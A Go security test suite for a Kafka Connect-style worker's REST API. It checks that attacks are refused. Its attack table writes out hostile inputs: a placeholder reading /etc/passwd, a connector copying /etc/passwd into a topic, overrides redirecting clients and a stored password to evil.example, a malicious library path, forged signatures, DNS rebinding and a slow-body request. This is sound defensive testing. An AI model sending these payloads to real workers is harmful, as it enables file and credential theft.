package main

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/bcrypt"

	"github.com/sluicehq/sluice/connect/connecttest"
	"github.com/sluicehq/sluice/internal/sluicetest"
	"github.com/sluicehq/sluice/worker/api"
	"github.com/sluicehq/sluice/worker/sessionkey"
)

// The security suite (issue 17): an attacker on the network replays each attack against real
// worker processes with the settings a user starts with, and each is refused with the right
// status while nothing secret reaches an answer or a log.

// attack is one request an attacker sends.
type attack struct {
	name         string
	method, path string
	body         string
	headers      []string // name, value pairs; "Host" sets the request's host
	want         int
}

// send makes the attack's request against base and returns the status and body.
func (a attack) send(t *testing.T, base string) (int, string) {
	t.Helper()
	var body io.Reader
	if a.body != "" {
		body = strings.NewReader(a.body)
	}
	req, err := http.NewRequest(a.method, base+a.path, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(a.headers); i += 2 {
		if a.headers[i] == "Host" {
			req.Host = a.headers[i+1]
		} else {
			req.Header.Set(a.headers[i], a.headers[i+1])
		}
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
	c := sluicetest.NewCluster(t)
	ws := []*sluicetest.Process{c.StartProcess(nil), c.StartProcess(nil)}
	topic := c.Prefix + "-data"
	name := c.Prefix + "-gen"
	sluicetest.CreateConnector(t, ws[0].URL, name, map[string]string{"connector.class": "datagen", "kafka.topic": topic, "rate": "1",
		"tasks.max": "2", "topic.creation.default.partitions": "1", "topic.creation.default.replication.factor": "-1"})
	sluicetest.WaitState(t, ws[0].URL, name, api.StateRunning, 2)
	// A connector with a password given literally, for the attempts to send it elsewhere (its
	// broker is not there; validation lets that pass, as the tasks keep trying).
	stored := c.Prefix + "-stored"
	const password = "stored-Pa55word-3319"
	sluicetest.CreateConnector(t, ws[0].URL, stored, map[string]string{"connector.class": "mqtt-source", "mqtt.server.uris": "tcp://127.0.0.1:1",
		"mqtt.topics": "x/#", "kafka.topic": c.Prefix + "-mqtt", "mqtt.username": "app", "mqtt.password": password})
	var before []map[string]any
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+name+"/tasks", nil, &before)

	evilTasks := `[{"connector.class":"file-source","file":"/etc/passwd","kafka.topic":"stolen"}]`
	forged := base64.StdEncoding.EncodeToString(hmac.New(sha256.New, []byte("guessed")).Sum(nil))
	create := func(cfg string) string { return `{"name":"evil","config":` + cfg + `}` }
	attacks := []attack{
		{"read a file through a placeholder", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","tasks.max":"${file:/etc/passwd}"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"read a variable through validation", "PUT", "/connector-plugins/datagen/config/validate", `{"connector.class":"datagen","kafka.topic":"t","tasks.max":"${env:HOME}"}`,
			[]string{"Content-Type", "application/json"}, 200},
		{"create from a web page (text/plain)", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t"}`),
			[]string{"Content-Type", "text/plain"}, 415},
		{"create from a web page (cross-origin JSON)", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t"}`),
			[]string{"Content-Type", "application/json", "Origin", "https://evil.example"}, 403},
		{"read configs through DNS rebinding", "GET", "/connectors?expand=info", "", []string{"Host", "evil.example:8083"}, 403},
		{"send the worker's clients elsewhere", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","producer.override.bootstrap.servers":"evil.example:9092","producer.override.security.protocol":"SASL_PLAINTEXT"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"load a library into the worker", "POST", "/connectors", create(`{"connector.class":"datagen","kafka.topic":"t","producer.override.plugin.library.paths":"/tmp/evil.so"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"read /etc/passwd into a topic", "POST", "/connectors", create(`{"connector.class":"file-source","file":"/etc/passwd","kafka.topic":"stolen"}`),
			[]string{"Content-Type", "application/json"}, 400},
		{"write task configs unsigned", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
			[]string{"Content-Type", "application/json"}, 400},
		{"write task configs with a forged signature", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
			[]string{"Content-Type", "application/json", sessionkey.Header, forged, sessionkey.AlgorithmHeader, "HmacSHA256"}, 403},
		{"send a stored password to a new broker (PATCH)", "PATCH", "/connectors/" + stored + "/config", `{"mqtt.server.uris":"tcp://evil.example:1883"}`,
			[]string{"Content-Type", "application/json"}, 400},
		{"send a stored password to a new broker (PUT with [hidden])", "PUT", "/connectors/" + stored + "/config",
			`{"connector.class":"mqtt-source","mqtt.server.uris":"tcp://evil.example:1883","mqtt.topics":"x/#","kafka.topic":"t","mqtt.username":"app","mqtt.password":"[hidden]"}`,
			[]string{"Content-Type", "application/json"}, 400},
	}
	for _, w := range ws {
		for _, a := range attacks {
			t.Run(a.name, func(t *testing.T) {
				code, body := a.send(t, w.URL)
				if code != a.want {
					t.Fatalf("%s %s on %s answered %d %s, want %d", a.method, a.path, w.URL, code, body, a.want)
				}
				if strings.Contains(body, "root:x:0") || strings.Contains(body, "/bin/bash") || strings.Contains(body, password) {
					t.Errorf("the answer holds the worker's /etc/passwd: %s", body)
				}
				if a.want == 200 { // validation: the errors must speak of the placeholder, not the value
					var v api.ConfigInfos
					if err := json.Unmarshal([]byte(body), &v); err != nil || v.ErrorCount == 0 {
						t.Errorf("validation of an unusable placeholder found no error: %s", body)
					}
				}
			})
		}
	}
	var after []map[string]any
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+name+"/tasks", nil, &after)
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("the task configs changed:\nbefore %v\nafter  %v", before, after)
	}
	var list []string
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors", nil, &list)
	if len(list) != 2 {
		t.Errorf("connectors after the attacks: %v", list)
	}
	var storedCfg map[string]string
	sluicetest.Call(t, "GET", ws[0].URL+"/connectors/"+stored+"/config", nil, &storedCfg)
	if storedCfg["mqtt.server.uris"] != "tcp://127.0.0.1:1" {
		t.Errorf("the stored connector's broker changed: %v", storedCfg)
	}
	for _, w := range ws {
		if log := w.Log.String(); strings.Contains(log, "root:x:0") || strings.Contains(log, password) {
			t.Errorf("worker %s logged the worker's /etc/passwd or a stored password:\n%s", w.URL, log)
		}
	}
}

// TestSignedTaskConfigsReachTheLeader runs connectors on a follower process, whose task
// configurations reach the leader only signed with the session key, and checks each gets its
// tasks; a request with a made-up signature sent through the follower is refused.
func TestSignedTaskConfigsReachTheLeader(t *testing.T) {
	c := sluicetest.NewCluster(t)
	ws := []*sluicetest.Process{c.StartProcess(nil), c.StartProcess(nil)}
	var names []string
	for i := range 4 {
		n := fmt.Sprintf("%s-gen-%d", c.Prefix, i)
		names = append(names, n)
		sluicetest.CreateConnector(t, ws[0].URL, n, map[string]string{"connector.class": "datagen", "kafka.topic": c.Prefix + "-data",
			"rate": "1", "tasks.max": "1", "topic.creation.default.partitions": "1", "topic.creation.default.replication.factor": "-1"})
	}
	runningOnAFollower(t, nil, []string{ws[0].URL, ws[1].URL}, names)
	// A forged body with a signature copied from nowhere: refused whatever worker gets it.
	body := []byte(`[{"connector.class":"datagen","kafka.topic":"x"}]`)
	req, _ := http.NewRequest("POST", ws[1].URL+"/connectors/"+url.PathEscape(names[0])+"/tasks", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(sessionkey.Header, base64.StdEncoding.EncodeToString(make([]byte, 32)))
	req.Header.Set(sessionkey.AlgorithmHeader, "HmacSHA256")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a forged signature through a follower answered %d, want 403", resp.StatusCode)
	}
}

// TestAuthenticatedClusterForwardsAndSigns runs two worker processes with users and tokens
// files: requests without credentials or with a reader's are refused; an admin's write sent
// to the follower is forwarded to the leader with the caller's credentials; connectors that run
// on the follower get their tasks through the signed internal endpoint, which needs no user.
func TestAuthenticatedClusterForwardsAndSigns(t *testing.T) {
	dir := t.TempDir()
	users := filepath.Join(dir, "users")
	hash, err := bcrypt.GenerateFromPassword([]byte("ops-Pa55"), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(users, []byte("# the test's users\nops:"+string(hash)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tokens := filepath.Join(dir, "tokens")
	sum := sha256.Sum256([]byte("reader-token-1"))
	if err := os.WriteFile(tokens, []byte("dashboard:sha256:"+hex.EncodeToString(sum[:])+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	settings := map[string]string{"rest.auth.users.file": users, "rest.auth.tokens.file": tokens,
		"rest.auth.admin.users": "ops", "rest.auth.read.users": "dashboard"}
	c := sluicetest.NewCluster(t)
	ws := []*sluicetest.Process{c.StartProcess(settings), c.StartProcess(settings)}
	admin := []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("ops:ops-Pa55"))}
	reader := []string{"Authorization", "Bearer reader-token-1"}
	create := func(name string) string {
		return `{"name":"` + name + `","config":{"connector.class":"datagen","kafka.topic":"` + c.Prefix + `-data","rate":"1","tasks.max":"1",` +
			`"topic.creation.default.partitions":"1","topic.creation.default.replication.factor":"-1"}}`
	}
	jsonType := []string{"Content-Type", "application/json"}
	for _, a := range []attack{
		{"health without credentials", "GET", "/health", "", nil, 200},
		{"a list without credentials", "GET", "/connectors", "", nil, 401},
		{"a wrong password", "GET", "/connectors", "", []string{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("ops:guess"))}, 401},
		{"a reader lists", "GET", "/connectors", "", reader, 200},
		{"a reader creates", "POST", "/connectors", create("by-reader"), append(append([]string{}, jsonType...), reader...), 403},
	} {
		t.Run(a.name, func(t *testing.T) {
			if code, body := a.send(t, ws[1].URL); code != a.want {
				t.Fatalf("answered %d %s, want %d", code, body, a.want)
			}
		})
	}
	// Admin writes through both workers: those that reach the follower are forwarded to the
	// leader with the admin's credentials.
	var names []string
	for i := range 4 {
		name := fmt.Sprintf("%s-gen-%d", c.Prefix, i)
		names = append(names, name)
		a := attack{"admin creates", "POST", "/connectors", create(name), append(append([]string{}, jsonType...), admin...), 201}
		if code, body := a.send(t, ws[i%2].URL); code != 201 {
			t.Fatalf("admin create through %s answered %d %s", ws[i%2].URL, code, body)
		}
	}
	authed := &http.Client{Transport: basicAuth{user: "ops", pass: "ops-Pa55"}}
	runningOnAFollower(t, authed, []string{ws[0].URL, ws[1].URL}, names)
}

// basicAuth adds HTTP Basic credentials to every request.
type basicAuth struct{ user, pass string }

func (b basicAuth) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.SetBasicAuth(b.user, b.pass)
	return http.DefaultTransport.RoundTrip(r)
}

// TestANetworkListenerWithoutAuthenticationRefusesToStart starts a worker on every interface
// without credentials files: it exits, saying what to set.
func TestANetworkListenerWithoutAuthenticationRefusesToStart(t *testing.T) {
	c := sluicetest.NewCluster(t)
	settings := c.Settings(fmt.Sprintf("http://0.0.0.0:%d", sluicetest.FreePort(t)), nil)
	var args []string
	for k, v := range settings {
		args = append(args, "--set", k+"="+v)
	}
	p := sluicetest.LaunchProcess(t, settings["listeners"], append([]string{"worker"}, args...)...)
	select {
	case <-p.Exited:
	case <-time.After(30 * time.Second):
		t.Fatalf("the worker is still running:\n%s", p.Log.String())
	}
	if log := p.Log.String(); !strings.Contains(log, "rest.auth.users.file") || !strings.Contains(log, "can be reached from other machines") {
		t.Errorf("the worker did not say why it stopped:\n%s", log)
	}
}

// envKC names kafka-connect-py's `kc`, a Kafka Connect CLI, installed by scripts/testenv.
const envKC = "SLUICE_TEST_KC"

// TestKafkaConnectCLIWithCredentials drives a worker that asks for credentials with a Kafka
// Connect CLI given them (kafka-connect-py's kc --auth user:password): it creates, lists,
// reads and deletes a connector; without credentials the CLI's requests are refused.
func TestKafkaConnectCLIWithCredentials(t *testing.T) {
	kc := connecttest.Env(t, envKC)
	dir := t.TempDir()
	hash, err := bcrypt.GenerateFromPassword([]byte("cli-Pa55"), bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	users := filepath.Join(dir, "users")
	if err := os.WriteFile(users, []byte("ops:"+string(hash)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c := sluicetest.NewCluster(t)
	w := c.StartProcess(map[string]string{"rest.auth.users.file": users})
	run := func(auth bool, args ...string) (string, error) {
		all := []string{"--url", w.URL}
		if auth {
			all = append(all, "--auth", "ops:cli-Pa55")
		}
		out, err := exec.Command(kc, append(all, args...)...).CombinedOutput()
		return string(out), err
	}
	name := c.Prefix + "-cli"
	cfg := `{"name":"` + name + `","config":{"connector.class":"datagen","kafka.topic":"` + c.Prefix + `-data","rate":"1",` +
		`"topic.creation.default.partitions":"1","topic.creation.default.replication.factor":"-1"}}`
	if out, err := run(true, "create", "--config-data", cfg); err != nil || !strings.Contains(out, name) {
		t.Fatalf("kc create: %v\n%s", err, out)
	}
	sluicetest.Eventually(t, time.Minute, "kc list --expand status to show it RUNNING", func() (bool, string) {
		out, err := run(true, "list", "--expand", "status")
		return err == nil && strings.Contains(out, name) && strings.Contains(out, "RUNNING"), out
	})
	if out, err := run(true, "config", name); err != nil || !strings.Contains(out, "datagen") {
		t.Errorf("kc config: %v\n%s", err, out)
	}
	if out, err := run(false, "list"); err == nil && strings.Contains(out, name) {
		t.Errorf("kc without credentials listed the connectors:\n%s", out)
	}
	if out, err := run(true, "delete", name); err != nil {
		t.Errorf("kc delete: %v\n%s", err, out)
	}
	sluicetest.Eventually(t, 30*time.Second, "the connector gone", func() (bool, string) {
		out, err := run(true, "list")
		return err == nil && !strings.Contains(out, name), out
	})
}

// TestSlowRequestBodiesAreCutOff sends a request whose body never finishes, as a client that
// means to hold the worker's connections would: the worker closes the connection once the
// request has taken longer than its read limit (30 s), instead of waiting for ever.
func TestSlowRequestBodiesAreCutOff(t *testing.T) {
	c := sluicetest.NewCluster(t)
	w := c.StartProcess(nil)
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	host := strings.TrimPrefix(w.URL, "http://")
	if _, err := fmt.Fprintf(conn, "POST /connectors HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{\"name\":", host); err != nil {
		t.Fatal(err)
	}
	// Trickle a byte every few seconds; the worker must end the request anyway.
	closed := make(chan error, 1)
	go func() {
		buf := make([]byte, 4096)
		for {
			if _, err := conn.Read(buf); err != nil {
				closed <- err
				return
			}
		}
	}()
	deadline := time.After(60 * time.Second)
	tick := time.NewTicker(2 * time.Second)
	defer tick.Stop()
	for {
		select {
		case err := <-closed:
			t.Logf("the worker ended the slow request: %v", err)
			return
		case <-tick.C:
			_, _ = conn.Write([]byte(" "))
		case <-deadline:
			t.Fatal("the worker still held a request whose body trickled in for 60 s")
		}
	}
}
